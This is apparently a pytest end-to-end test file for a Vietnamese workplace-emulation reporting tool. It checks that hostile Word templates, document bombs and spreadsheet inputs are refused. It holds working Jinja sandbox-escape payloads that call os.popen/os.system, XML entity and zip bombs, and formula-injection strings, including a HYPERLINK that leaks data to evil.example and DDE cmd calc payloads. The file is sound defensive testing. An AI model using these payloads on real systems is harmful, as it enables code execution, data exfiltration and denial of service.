"""Documents that travel between agencies, as real processes of the installed script: a Word template
that reaches for Python, Word files that are bombs, pledges too long or with absurd numbers. The
outcome is a located exit 2 (or the document), never code run, a traceback, exit 3 or a hang."""

from __future__ import annotations

import io
import json
import shutil
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from docx import Document

from tests.e2e.process import ROOT, Outcome, judge, run_script
from thidua.evaluator.documents.word import shipped_template
from thidua.rules.limits import MAX_DOCUMENT_UNPACKED_BYTES, MAX_DRAFT_BYTES, MAX_ZIP_MEMBERS

# real processes, each evaluating an agency: started first under make test (tests/conftest.py)
pytestmark = pytest.mark.slow

EXAMPLE = ROOT / "examples" / "ban-dan-toc-binh-phuoc" / "2022"
SENTENCE = "Phấn đấu có 05 cá nhân đạt danh hiệu Lao động tiên tiến"


def _template(*paragraphs: str) -> bytes:
    """The shipped report template with paragraphs added at its end."""
    doc = Document(io.BytesIO(shipped_template()))
    for text in paragraphs:
        doc.add_paragraph(text)
    out = io.BytesIO()
    doc.save(out)
    return out.getvalue()


def _paragraph_count() -> int:
    doc = Document(io.BytesIO(shipped_template()))
    return len([p for p in doc.element.body.iter() if p.tag.endswith("}p")])


def _report(tmp_path: Path, template: bytes) -> Outcome:
    (tmp_path / "mau.docx").write_bytes(template)
    return run_script(
        "report",
        EXAMPLE,
        "--format",
        "docx",
        "--template",
        "mau.docx",
        "--out",
        "out.docx",
        "--no-record",
        cwd=tmp_path,
    )


# --- the sandbox ------------------------------------------------------------------------------

PAYLOADS = {
    # each would create the file PWNED in the working folder if it ran
    "globals-of-cycler": "{{ cycler.__init__.__globals__.os.popen('touch PWNED').read() }}",
    "class-walk": "{{ header.__class__.__mro__[1].__subclasses__() }}",
    "str-format": "{{ '{0.__class__.__init__.__globals__}'.format(header) }}",
    "attr-filter": "{{ header|attr('__class__') }}",
    "lipsum-globals": "{{ lipsum.__globals__['os'].system('touch PWNED') }}",
    "self-context": "{{ self._TemplateReference__context }}",
}


@pytest.mark.parametrize("payload", list(PAYLOADS.values()), ids=list(PAYLOADS))
def test_a_hostile_template_runs_nothing(tmp_path: Path, payload: str) -> None:
    outcome = _report(tmp_path, _template(payload))
    assert judge(outcome) is None, outcome.describe()
    assert outcome.rc == 2, outcome.describe()
    assert not (tmp_path / "PWNED").exists()
    assert not (tmp_path / "out.docx").exists()
    # located: the paragraph added, with its text
    assert f"mau.docx: lỗi: Mẫu Word, đoạn {_paragraph_count() + 1} («" in outcome.stderr, outcome.stderr


LIMITS = {
    "text-times-a-billion": ("{{ 'x' * 1000000000 }}", "'*'"),
    "power": ("{{ 9 ** 99999999 }}", "'**'"),
    "percent-format": ("{{ '%999999999d' % 1 }}", "'%'"),
    "method-that-grows": ("{{ header.name.ljust(1000000000) }}", "'ljust'"),
    "nested-loops": (
        "{% for a in body %}{% for b in body %}{% for c in body %}{% for d in body %}x{% endfor %}"
        "{% endfor %}{% endfor %}{% endfor %}",
        "1000000",
    ),
    "literal-loops": (
        "{% for a in [1,2,3,4,5,6,7,8,9,10] %}{% for b in [1,2,3,4,5,6,7,8,9,10] %}"
        "{% for c in [1,2,3,4,5,6,7,8,9,10] %}{% for d in [1,2,3,4,5,6,7,8,9,10] %}"
        "{% for e in [1,2,3,4,5,6,7,8,9,10] %}{% for f in [1,2,3,4,5,6,7,8,9,10] %}x"
        "{% endfor %}{% endfor %}{% endfor %}{% endfor %}{% endfor %}{% endfor %}",
        "1000000",
    ),
    "divide-by-zero": ("{{ 1 / 0 }}", "division by zero"),
}


@pytest.mark.parametrize(("payload", "said"), list(LIMITS.values()), ids=list(LIMITS))
def test_a_template_past_its_limits_is_located(tmp_path: Path, payload: str, said: str) -> None:
    outcome = _report(tmp_path, _template(payload))
    assert judge(outcome) is None and outcome.rc == 2, outcome.describe()
    assert f"đoạn {_paragraph_count() + 1} («" in outcome.stderr and said in outcome.stderr, outcome.stderr


def test_a_template_may_still_read_and_shape_the_report(tmp_path: Path) -> None:
    outcome = _report(
        tmp_path,
        _template(
            "{{ header.name|lower|title }} — {{ body|length }} dòng — {{ header.get('summary') }}",
            "{%p for r in recipients %}",
            "{{ loop.index }}. {{ r|upper }}",
            "{%p endfor %}",
        ),
    )
    assert outcome.rc == 0, outcome.describe()
    texts = [p.text for p in Document(str(tmp_path / "out.docx")).paragraphs]
    assert any(t.startswith("Công Đoàn Cơ Sở Ban Dân Tộc — ") and " dòng — Kết quả thực hiện" in t for t in texts)
    assert "1. CĐVC TỈNH;" in texts, texts  # each recipient comes with its closing punctuation


def test_the_block_minutes_are_rendered_in_the_same_sandbox() -> None:
    from thidua.evaluator.documents import block, word

    assert block.render_docx is word.render_docx  # one renderer, so one sandbox (word.environment)


# --- Word files that are bombs or damaged -------------------------------------------------------


def _rewrite(data: bytes, change: Callable[[str, bytes], bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for info in src.infolist():
            dst.writestr(info.filename, change(info.filename, src.read(info.filename)))
    return out.getvalue()


def _in_document(change: Callable[[bytes], bytes]) -> Callable[[str, bytes], bytes]:
    return lambda name, data: change(data) if name == "word/document.xml" else data


def _pledge() -> bytes:
    doc = Document()
    doc.add_paragraph("- " + SENTENCE)
    out = io.BytesIO()
    doc.save(out)
    return out.getvalue()


def _nested_tables(xml: bytes) -> bytes:
    inner = b"<w:tbl><w:tr><w:tc>" * 100 + b"<w:p/>" + b"</w:tc></w:tr></w:tbl>" * 100
    return xml.replace(b"<w:body>", b"<w:body>" + inner, 1)


def _entities(xml: bytes) -> bytes:
    dtd = b'<!DOCTYPE w:document [<!ENTITY a "aaaaaaaaaa">' + b"".join(
        b'<!ENTITY %s "%s">' % (bytes([98 + i]), (b"&%s;" % bytes([97 + i])) * 10) for i in range(9)
    )
    return xml.replace(b"?>", b"?>" + dtd + b"]>", 1).replace(
        b"<w:body>", b"<w:body><w:p><w:r><w:t>&j;</w:t></w:r></w:p>"
    )


def _unpacks_large(xml: bytes) -> bytes:
    run = b"<w:p><w:r><w:t>" + b"a" * (MAX_DOCUMENT_UNPACKED_BYTES + 1) + b"</w:t></w:r></w:p>"
    return xml.replace(b"<w:body>", b"<w:body>" + run, 1)


def _many_members(data: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as src, zipfile.ZipFile(out, "w") as dst:
        for info in src.infolist():
            dst.writestr(info.filename, src.read(info.filename))
        for i in range(MAX_ZIP_MEMBERS + 1):
            dst.writestr(f"customXml/x{i}.bin", b"")
    return out.getvalue()


BOMBS: dict[str, tuple[Callable[[bytes], bytes], str]] = {
    "nested-100-tables": (lambda d: _rewrite(d, _in_document(_nested_tables)), "Excessive depth"),
    "entity-bomb": (lambda d: _rewrite(d, _in_document(_entities)), "DOCTYPE"),
    "unpacks-past-the-limit": (lambda d: _rewrite(d, _in_document(_unpacks_large)), str(MAX_DOCUMENT_UNPACKED_BYTES)),
    "too-many-members": (_many_members, str(MAX_ZIP_MEMBERS)),
    "malformed-xml": (lambda d: _rewrite(d, _in_document(lambda x: x[: len(x) // 2])), "mau.docx"),
    "not-a-zip": (lambda d: b"PK\x03\x04" + d[100:5000], "mau.docx"),
}


@pytest.mark.parametrize(("make", "said"), list(BOMBS.values()), ids=list(BOMBS))
def test_a_bomb_given_as_a_template_or_a_pledge_is_refused(
    tmp_path: Path, make: Callable[[bytes], bytes], said: str
) -> None:
    for command, data in (("report", make(shipped_template())), ("draft", make(_pledge()))):
        (tmp_path / "mau.docx").write_bytes(data)
        if command == "report":
            args = ["report", EXAMPLE, "--format", "docx", "--template", "mau.docx", "--out", "out.docx", "--no-record"]
        else:
            args = ["draft", "mau.docx"]
        outcome = run_script(*args, cwd=tmp_path, timeout=60)
        assert judge(outcome) is None and outcome.rc == 2, f"{command}: {outcome.describe()}"
        assert said in outcome.stderr, f"{command}: {outcome.stderr}"


# --- pledges given to draft -------------------------------------------------------------------


def test_a_pledge_longer_than_the_limit_is_refused(tmp_path: Path) -> None:
    line = f"- {SENTENCE}.\n"
    (tmp_path / "dai.txt").write_text(line * (MAX_DRAFT_BYTES // len(line.encode()) + 1), encoding="utf-8")
    outcome = run_script("draft", "dai.txt", cwd=tmp_path)
    assert judge(outcome) is None and outcome.rc == 2, outcome.describe()
    assert f"dai.txt: lỗi: Văn bản 'dai.txt' dài hơn {MAX_DRAFT_BYTES} byte" in outcome.stderr, outcome.stderr


def test_the_same_sentence_many_times_is_drafted_with_numbered_ids(tmp_path: Path) -> None:
    """Every repeat after the first takes the next free suffix (the suffix search restarted at 2 for
    every repeat: quadratic, a 5 MB line of repeats ran past 300 s)."""
    (tmp_path / "lap.txt").write_text(f"- {' '.join([SENTENCE + '.'] * 300)}\n", encoding="utf-8")
    outcome = run_script("draft", "lap.txt", cwd=tmp_path)
    assert outcome.rc == 0, outcome.describe()
    ids = [line.split(": ", 1)[1] for line in outcome.stdout.splitlines() if line.startswith("- id: ")]
    assert ids[:3] == ["staff.advanced_workers", "staff.advanced_workers_2", "staff.advanced_workers_3"], ids
    assert len(ids) == len(set(ids)) == 300 and ids[-1] == "staff.advanced_workers_300"


@pytest.mark.parametrize("digits", [31, 4301, 20_000])
def test_a_number_too_long_for_a_target_is_not_drafted(tmp_path: Path, digits: int) -> None:
    (tmp_path / "so.txt").write_text(f"- Phấn đấu có {'9' * digits} cá nhân đạt Lao động tiên tiến\n- {SENTENCE}\n")
    outcome = run_script("draft", "so.txt", cwd=tmp_path)
    assert outcome.rc == 0 and judge(outcome) is None, outcome.describe()
    assert "có số dài quá 30 chữ số" in outcome.stdout and "gte: 5" in outcome.stdout, outcome.stdout


OWN_KINDS = """\
version: 1
period: 2024
name: Chi đoàn tự đặt loại và thang
kinds:
  - id: chi_doan
    title: Chi đoàn
    attributes:
      - {id: xl, label: Xếp loại chi đoàn, scale: xlcd}
  - id: doan_vien
    title: Đoàn viên
    attributes:
      - {id: xl, label: Xếp loại đoàn viên, scale: xldv}
      - {id: tuoi, label: Tuổi, type: integer}
scales:
  - id: xlcd
    title: Xếp loại chi đoàn
    levels: [{id: yeu, label: Yếu}, {id: manh, label: Vững mạnh}]
  - id: xldv
    title: Xếp loại đoàn viên
    levels: [{id: d1, label: Một}, {id: d2, label: Hai}, {id: d3, label: Ba}, {id: d4, label: Xuất sắc}]
targets:
  - id: dv.hoac
    group: individual
    title: Có 02 đoàn viên xuất sắc hoặc dưới 30 tuổi
    measure:
      count: {of: doan_vien, where: {any: [{attr: xl, eq: d4}, {attr: tuoi, lt: 30}]}}
    require: {gte: 2}
  - id: dv.xuat_sac
    group: individual
    title: Một nửa đoàn viên xuất sắc
    measure:
      share: {of: doan_vien, matching: {attr: xl, eq: d4}}
    require: {gte: 50%}
  - id: cd.khong_yeu
    group: collective
    title: Chi đoàn không xếp loại yếu
    measure:
      holds: {of: chi_doan, condition: {not: {attr: xl, eq: yeu}}}
"""


def test_pledge_on_rule_files_with_their_own_kinds_and_scales(tmp_path: Path) -> None:
    """An `any` had no pledge phrasing (ValueError) and a level was looked up in the scale of the
    first kind having an attribute of that name (IndexError): both exit 3. Every condition has a
    phrasing (docs/authoring.md, "Back to the pledge"); a level is read on its own kind's scale."""
    (tmp_path / "rieng.rules.yaml").write_text(OWN_KINDS, encoding="utf-8")
    assert run_script("validate", ".", cwd=tmp_path).rc == 0
    outcome = run_script("pledge", ".", cwd=tmp_path)
    assert outcome.rc == 0 and judge(outcome) is None, outcome.describe()
    assert outcome.stdout.splitlines()[-3:] == [
        "- Phấn đấu có 02 đoàn viên trở lên (đạt xếp loại \u201cXuất sắc\u201d hoặc có tuổi nhỏ hơn \u201c30\u201d).",
        "- Phấn đấu có từ 50% trở lên đoàn viên đạt xếp loại \u201cXuất sắc\u201d.",
        "- Chi đoàn đáp ứng điều kiện không đạt xếp loại \u201cYếu\u201d.",
    ], outcome.stdout


# --- workbooks: no formula from input text ------------------------------------------------------

# Texts a spreadsheet may take for formulas: a live link, a DDE command, arithmetic, @, and the same
# after a tab or a carriage return (which the reader shows as '\x0d', visible).
FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"bấm vào đây")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
BLOCK = ROOT / "examples" / "khoi-thi-dua-so-6"


def _swap(path: Path, pairs: list[tuple[str, str]]) -> None:
    text = path.read_text(encoding="utf-8")
    for old, new in pairs:
        assert old in text, old
        text = text.replace(old, new, 1)
    path.write_text(text, encoding="utf-8")


def _quoted(text: str) -> str:
    return json.dumps(text, ensure_ascii=False)  # a YAML double-quoted scalar


def _cells(path: Path) -> list[Any]:
    from openpyxl import load_workbook

    book = load_workbook(path)  # not data_only: a formula reads back as its formula, typed 'f'
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def _no_formula_from(path: Path, texts: list[str]) -> None:
    cells = _cells(path)
    formulas = [f"{c.parent.title}!{c.coordinate}: {c.value!r}" for c in cells if c.data_type == "f"]
    assert formulas == [], formulas
    values = {c.value for c in cells if isinstance(c.value, str)}
    shown = [t.replace("\r", "\\x0d") for t in texts]  # a control character is made visible when read
    missing = [t for t in shown if not any(t in v for v in values)]
    assert missing == [], missing  # each text is there, as text, as written
    quoted = [c for c in cells if isinstance(c.value, str) and c.value.startswith(("=", "+", "-", "@", "\t"))]
    assert quoted and all(c.quotePrefix for c in quoted)  # and stays text when a user edits the cell


def test_the_report_workbook_has_no_formula_from_input_text(tmp_path: Path) -> None:
    folder = tmp_path / "2022"
    shutil.copytree(EXAMPLE, folder)
    people = ["Nguyễn Văn Hùng", "Điểu Thị Lan", "Trần Quốc Bảo", "Lê Thị Hồng Nhung", "Phạm Minh Tuấn"]
    roster = [(f"name: {p}", f"name: {_quoted(t)}") for p, t in zip(people, FORMULAS, strict=False)]
    roster.append(("name: Thanh tra Ban", f"name: {_quoted(FORMULAS[-1])}"))
    _swap(folder / "roster.facts.yaml", roster)
    title = 'title: Phấn đấu 05 tập thể phòng đạt danh hiệu "Tập thể lao động tiên tiến"'
    _swap(folder / "targets.rules.yaml", [(title, "title: '=1+1'")])
    outcome = run_script("report", ".", "--format", "xlsx", "--out", "r.xlsx", "--no-record", cwd=folder)
    assert outcome.rc == 0, outcome.describe()
    _no_formula_from(folder / "r.xlsx", [*FORMULAS, "=1+1"])


def test_the_block_workbook_has_no_formula_from_input_text(tmp_path: Path) -> None:
    shutil.copytree(BLOCK, tmp_path / "khoi")
    shutil.copytree(EXAMPLE.parent, tmp_path / "ban-dan-toc-binh-phuoc")
    _swap(
        tmp_path / "khoi" / "so-noi-vu" / "roster.facts.yaml",
        [("name: Sở Nội vụ tỉnh Bình Phước", f"name: {_quoted(FORMULAS[0])}")],
    )
    _swap(
        tmp_path / "khoi" / "block.rules.yaml",
        [
            ("title: Tập thể phòng đạt Tập thể lao động tiên tiến,", f"title: {_quoted(FORMULAS[1])},"),
            ("title: Thực hiện chỉ tiêu thi đua đối với cá nhân", f"title: {_quoted(FORMULAS[2])}"),
        ],
    )
    outcome = run_script("block", "khoi", "--format", "xlsx", "--out", "b.xlsx", "--no-record", cwd=tmp_path)
    assert outcome.rc in (0, 2) and judge(outcome) is None, outcome.describe()
    _no_formula_from(tmp_path / "b.xlsx", FORMULAS[:3])
